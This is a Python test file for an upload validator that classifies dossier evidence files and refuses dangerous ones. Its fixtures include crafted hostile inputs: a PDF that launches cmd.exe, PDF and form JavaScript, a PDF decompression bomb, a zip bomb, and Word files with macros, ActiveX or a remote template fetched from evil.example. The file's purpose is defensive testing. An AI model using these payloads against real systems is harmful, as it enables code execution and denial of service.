"""Files for the dossier are judged by what they are, and refused with a sentence that says what to do."""

import io
import zipfile

import pikepdf
import pytest

from tests.factories import proofs
from trainees.domain.dossier import files
from trainees.domain.dossier.declaring import PAPER, PICTURES, Takes

EVERYTHING = frozenset(Takes)


def judge(data: bytes, name="x.bin", takes=EVERYTHING):
    return files.judge(proofs.upload(data, name), takes=takes)


def test_judge_a_photo_by_its_content_and_read_its_camera():
    judged = judge(proofs.photo(taken="2026:03:04 09:30:00", place=(29.0012, 109.8534)), "报告.pdf")
    assert (judged.kind, judged.content_type, judged.pages) == ("photo", "image/jpeg", 1)
    assert f"{judged.shot.at:%Y-%m-%d %H:%M %z}" == "2026-03-04 09:30 +0800"
    assert (str(judged.shot.latitude), str(judged.shot.longitude)) == ("29.00", "109.85")
    assert len(judged.look) == 16
    assert b"Exif" not in judged.data


def test_judge_a_pdf_with_its_pages():
    judged = judge(proofs.pdf(3))
    assert (judged.kind, judged.pages, judged.data) == ("document", 3, None)
    assert judged.sha256 == judged.original_sha256


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "empty"),
        (b"<html><script>alert(1)</script>", "can't tell"),
        (b"MZ" + b"\0" * 200, "can't tell"),
        (b"\0\0\0\x18ftypheic" + b"\0" * 100, "HEIC"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old Word"),
        (b"%PDF-1.7\nnothing more", "damaged"),
        (b"\0\0\0\x18ftypisom" + b"\0" * 400, "."),
        (b"\xff\xd8\xff\xe0" + b"<script>" * 50, "not a picture"),
        (b"PK\x03\x04" + b"\0" * 400, "damaged"),
    ],
    ids=["empty", "page", "program", "heic", "old word", "broken pdf", "broken video", "fake photo", "broken zip"],
)
def test_refuse_what_is_none_of_these(in_english, data, says):
    with pytest.raises(files.FileRefused, match=says):
        judge(data)


def pdf_with(**entries) -> bytes:
    made = pikepdf.open(io.BytesIO(proofs.pdf()))
    for key, value in entries.items():
        made.Root[f"/{key}"] = value
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def with_a_page_of(width: int) -> bytes:
    made = pikepdf.open(io.BytesIO(proofs.pdf()))
    made.pages[0].mediabox = [0, 0, width, 842]
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def test_refuse_pdfs_that_act_or_are_locked(in_english):
    launch = pdf_with(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))
    script = proofs.pdf(script="app.alert(1)")
    inside = pdf_with(Names=pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([]))))
    hidden = pdf_with(AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array([pikepdf.Dictionary(AA=pikepdf.Dictionary(
        K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x")))])))  # fmt: skip
    for data in (launch, script, inside, hidden):
        with pytest.raises(files.FileRefused, match="carries programs"):
            judge(data)
    with pytest.raises(files.FileRefused, match="locked"):
        judge(proofs.pdf(password="geheim"))
    with pytest.raises(files.FileRefused, match="500 pages"):
        judge(proofs.pdf(501))
    with pytest.raises(files.FileRefused, match="damaged"):
        judge(with_a_page_of(900_000))


def test_a_pdf_that_eats_memory_brings_down_its_child_only(in_english):
    """A stream of objects that unpacks to far more than the child may hold."""
    import zlib

    bomb = zlib.compressobj(1)
    packed = b"".join(bomb.compress(b" " * 1024**2) for _mib in range(1100)) + bomb.flush()
    about = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    head = b"%PDF-1.7\n1 0 obj\n" + about + b"\nstream\n"
    data = head + packed + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    with pytest.raises(files.FileRefused, match="damaged"):
        judge(data)


def test_take_word_and_excel(tmp_path):
    import xlsxwriter

    with xlsxwriter.Workbook(tmp_path / "x.xlsx") as book:
        book.add_worksheet().write(0, 0, "培训计划")
    assert judge((tmp_path / "x.xlsx").read_bytes()).content_type == files.office_files.XLSX
    assert judge(proofs.docx()).content_type == files.office_files.DOCX


@pytest.mark.parametrize(
    ("parts", "says"),
    [
        ({"word__vbaProject_dot_bin": "x"}, "programs"),
        ({"word__activeX__activeX1_dot_xml": "x"}, "programs"),
        (
            {"word___rels__settings_dot_xml_dot_rels": '<Relationships><Relationship Id="a" TargetMode="External" '
             'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'},
            "fetches",
        ),
    ],
    ids=["macros", "active x", "template from elsewhere"],
)  # fmt: skip
def test_refuse_word_files_that_act(in_english, parts, says):
    with pytest.raises(files.FileRefused, match=says):
        judge(proofs.docx(**parts))


def test_refuse_an_archive_and_a_zip_bomb(in_english):
    with pytest.raises(files.FileRefused, match="ZIP archive"):
        judge(proofs.zipped(a="x", b="y"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<w/>")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as part:
            for _mib in range(210):
                part.write(b"\0" * 1024**2)
    assert len(out.getvalue()) < 1_000_000
    with pytest.raises(files.FileRefused, match="unpacks"):
        judge(out.getvalue())


def test_a_link_in_a_word_file_is_no_harm():
    link = (
        '<Relationships><Relationship Id="a" TargetMode="External" Type="http://x/relationships/hyperlink" '
        'Target="https://a.example"/></Relationships>'
    )
    assert judge(proofs.docx(word___rels__document_dot_xml_dot_rels=link)).kind == "document"


def test_refuse_kinds_an_item_does_not_take(in_english):
    with pytest.raises(files.FileRefused, match=r"photos \(JPEG, PNG, WebP\), PDF\."):
        judge(proofs.docx(), takes=PICTURES)
    with pytest.raises(files.FileRefused, match="Word, Excel"):
        judge(b"\0\0\0\x18ftypisom" + b"\0" * 400, takes=PAPER)


def test_refuse_more_bytes_than_allowed(settings, in_english):
    settings.EVIDENCE_FILE_MAX_BYTES = 1024**2
    with pytest.raises(files.FileRefused, match="1 MB"):
        judge(b"%PDF-" + b"\0" * 1024**2)
